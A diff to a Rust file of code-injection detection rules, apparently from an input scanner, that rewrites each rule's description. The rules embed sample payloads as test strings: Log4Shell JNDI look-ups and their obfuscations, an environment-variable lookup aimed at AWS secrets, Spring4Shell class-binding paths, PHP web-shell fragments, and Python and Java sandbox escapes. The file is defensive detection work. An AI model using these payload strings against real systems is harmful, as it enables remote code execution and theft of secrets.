@@ -1,4 +1,4 @@
-//! What counts as evidence.
+//! The rules.
 
 use crate::detect::evidence::{Class, Location, Rule};
 
@@ -6,7 +6,7 @@ pub(super) static JNDI: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.jndi",
     100,
-    "has a logger ask a naming service, which answers with code",
+    "is a JNDI look-up in a log message (Log4Shell, CVE-2021-44228)",
     &[
         "${jndi:ldap://192.0.2.1/a}",
         "${${lower:J}ndi:${lower:rmi}://example.com/a}",
@@ -20,7 +20,7 @@ pub(super) static SPELLED: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.spelled-lookup",
     60,
-    "spells a look-up of a logger letter by letter",
+    "obfuscates a Log4j look-up letter by letter",
     &["${${::-j}${::-n}di:ldap://example.com/a}", "${${::-s}ys:user.name}"],
     &["${x::-1}", "${name:-y}", "${list[::-1]}"],
 );
@@ -28,7 +28,7 @@ pub(super) static ENVIRONMENT: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.environment-lookup",
     60,
-    "has a logger fill in a variable of the server",
+    "makes a logger insert an environment variable of the server",
     &["$_GET[0]${env:USER}", "${${::-a}${env:AWS_SECRET}}"],
     &["${env.HOME}", "${env:HOME}", "log with ${sys:user.name} in the pattern"],
 );
@@ -36,7 +36,7 @@ pub(super) static CLASS_BINDING: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.class-binding",
     100,
-    "sets a property of the class of the object that parameters fill in",
+    "binds a parameter to a property of the class object (Spring4Shell, CVE-2022-22965)",
     &[
         "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
         "class.classLoader.x",
@@ -49,7 +49,7 @@ pub(super) static CLASS_NAME: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.class-name",
     100,
-    "names a class of Java that runs, reads or loads something",
+    "names a Java class that runs, reads or loads something",
     &[
         "java.lang.Runtime",
         "javax.script.ScriptEngineManager",
@@ -68,7 +68,7 @@ pub(super) static OPEN_TAG: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.php-tag",
     60,
-    "opens PHP",
+    "opens a PHP block",
     &[
         "<?php echo 1; ?>",
         "GIF89a<?php phpinfo();",
@@ -89,7 +89,7 @@ pub(super) static LEADING_TAG: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.leading-php-tag",
     40,
-    "begins with PHP, as a page that would be run",
+    "begins with a PHP block",
     &["<?php echo 'test'; ?>", "\n<?= $x ?>"],
     &[
         "Write it as <?php echo 1; ?> in the page",
@@ -103,7 +103,7 @@ pub(super) static SUPERGLOBAL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.php-input",
     30,
-    "reads the input of the request as PHP does",
+    "reads the request input in PHP",
     &["$_SERVER['test'];", "$GLOBALS['x']('id')", "$_COOKIE"],
     &["Use $_POST for that form", "how do I read $_GET['id'] from a form in PHP", "$existingUser", "_SERVER"],
 );
@@ -111,7 +111,7 @@ pub(super) static TAINTED: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.runs-input",
     100,
-    "runs the input of the request",
+    "executes the request input",
     &["eval($_POST['c'])", "@assert(@$_REQUEST['x'])", "a shell is include($_GET[0])"],
     &["evaluate($_POST)", "isset($_GET['page']) is what the page should ask first"],
 );
@@ -119,7 +119,7 @@ pub(super) static NESTED: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.runs-hidden-code",
     100,
-    "runs code that it hides",
+    "decodes and executes obfuscated code",
     &[
         "eval(base64_decode('cGhwaW5mbygp'))",
         "assert(gzinflate(str_rot13($x)))",
@@ -132,7 +132,7 @@ pub(super) static RUN: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.runs",
     30,
-    "calls a function of PHP that runs commands or code",
+    "calls a PHP function that runs commands or code",
     &["shell_exec($x)", "call_user_func('x','y')"],
     &["why is shell_exec() off on my server", "shell_exec", "runs()", "the system is down()"],
 );
@@ -140,7 +140,7 @@ pub(super) static PROBE: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.probe",
     30,
-    "calls a function of PHP that shows or changes the system, or hides code",
+    "calls a PHP function that shows or changes the system, or obfuscates code",
     &["posix_getpwuid(25)", "get_defined_functions()[0]", "1;gzinflate($x)"],
     &[
         "cheval($foo)",
@@ -154,7 +154,7 @@ pub(super) static SPLICED: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.split-call",
     30,
-    "calls a function with a comment within the call",
+    "calls a function with a comment inside the call",
     &["exec /*foo*/ ()", "exec\t/*foo\r\nbar*/\t ()", "touch/*a*/('x')", "system//\n('id')"],
     &["exec (noun)", "system /* the old one */"],
 );
@@ -162,7 +162,7 @@ pub(super) static VARIABLE_CALL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.variable-call",
     30,
-    "calls the function that a variable of PHP names",
+    "calls a PHP variable function",
     &["$f(101).$f(120)", "@$b374k('foo')", "$a /*c*/ ()", "$$$z(29)"],
     &["$(document).ready()", "$http({url: x})", "$5 (each)", "pay $a (now)", "$el.find('a')", "$a->b()"],
 );
@@ -170,7 +170,7 @@ pub(super) static COMPUTED_NAME: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.computed-variable",
     30,
-    "reads a variable of PHP by a name in a text",
+    "reads a PHP variable variable",
     &["$ {'_VAR'.'IABLE_NAME'}", "${\"x\"}"],
     &["${}", "${name}", "It costs ${'5'} or so, says the shop that sells them"],
 );
@@ -178,7 +178,7 @@ pub(super) static COMPUTED_CALL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.computed-call",
     30,
-    "calls a function of PHP whose name is computed",
+    "calls a PHP function whose name is computed",
     &["$__['o'](5)", "x=${'a'}(11)", "$foo->$name()", "$d[$_[1]](7)"],
     &["$a[]()", "${}()", "$hash{key}=[1,2,3]", "$rows[0]->name()", "$scope.items[0]"],
 );
@@ -186,7 +186,7 @@ pub(super) static APPENDED_CALL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.appended-call",
     100,
-    "ends a text of PHP and appends the outcome of a call to it",
+    "ends a PHP string and appends the result of a call",
     &["'.print(md5(1)).'", "\".system('id').\"", "'.@hex2bin('41').'"],
     &["', '.join(x)", "'.name.'", "the '.call().' in it", "'...(so on)...'", "\".\""],
 );
@@ -194,7 +194,7 @@ pub(super) static INDIRECT_CALL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.indirect-call",
     100,
-    "calls a function that runs something, by a text or an entry of a list",
+    "calls a dangerous function indirectly, by a string or a list entry",
     &[
         "('system')('whoami')",
         "(system)(ls)",
@@ -220,7 +220,7 @@ pub(super) static PERL: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.perl-interpolation",
     100,
-    "has Perl fill in the value of an expression",
+    "uses Perl interpolation to evaluate an expression",
     &["@{[system 'id']}", "a@{ [ qx(id) ] }"],
     &["@{", "mail@example.com", "@{name}", "@media{[x]{}}"],
 );
@@ -228,7 +228,7 @@ pub(super) static IMPORT: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.module-import",
     100,
-    "fetches a module that acts on the system and uses it at once",
+    "imports a module that acts on the system and uses it at once",
     &[
         "__import__('os').system('id')",
         "require('child_process').exec('id')",
@@ -259,7 +259,7 @@ pub(super) static JAVA: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.java-call",
     30,
-    "calls what runs programs or scripts in Java",
+    "calls a Java API that runs programs or scripts",
     &[
         "Runtime.getRuntime().exec('id')",
         "new ProcessBuilder(cmd).start()",
@@ -279,7 +279,7 @@ pub(super) static EXPRESSION: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.java-expression",
     100,
-    "reaches for classes as only expression languages of Java do",
+    "accesses classes as Java expression languages (OGNL, SpEL, EL) do",
     &[
         "(#_memberAccess['allowStaticMethodAccess']=true)",
         "#a=@java.lang.Runtime@getRuntime()",
@@ -298,7 +298,7 @@ pub(super) static DOTNET: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.dotnet-call",
     30,
-    "calls what acts on the system in .NET",
+    "calls a .NET API that acts on the system",
     &[
         "System.Diagnostics.Process.Start(\"cmd.exe\")",
         "Process.Start(\"calc\")",
@@ -314,7 +314,7 @@ pub(super) static FUNCTION_OBJECT: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.function-constructor",
     30,
-    "reaches the constructor of functions",
+    "accesses the JavaScript Function constructor",
     &["x.constructor.constructor(1)", "[].constructor.constructor('return process')()"],
     &["this.constructor.name", "The constructor of a (base) class"],
 );
@@ -322,7 +322,7 @@ pub(super) static PRIVATE: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.class-walk",
     60,
-    "walks from an object of Python to all classes",
+    "traverses from a Python object to all classes",
     &[
         "().__class__.__bases__[0].__subclasses__()",
         "f.__globals__.__builtins__['eval']",
@@ -334,7 +334,7 @@ pub(super) static ENDLESS: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.endless-loop",
     30,
-    "loops for ever",
+    "is an endless loop",
     &["while(!0);", "while(!!1){}", "x;while((true)))", "while(+Infinity);"],
     &["while(!true);", "while (foo) is bar.", "while(true) waits", "while(x < 3);"],
 );
@@ -342,7 +342,7 @@ pub(super) static ONLY_CODE: Rule = Rule::new(
     Class::CodeInjection,
     "code_injection.only-code",
     70,
-    "is nothing but code",
+    "consists of code only",
     &["phpinfo(1)", "os.system('id')", "shell_exec('id')"],
     &[
         "How do I call os.system('id') from a script of mine",
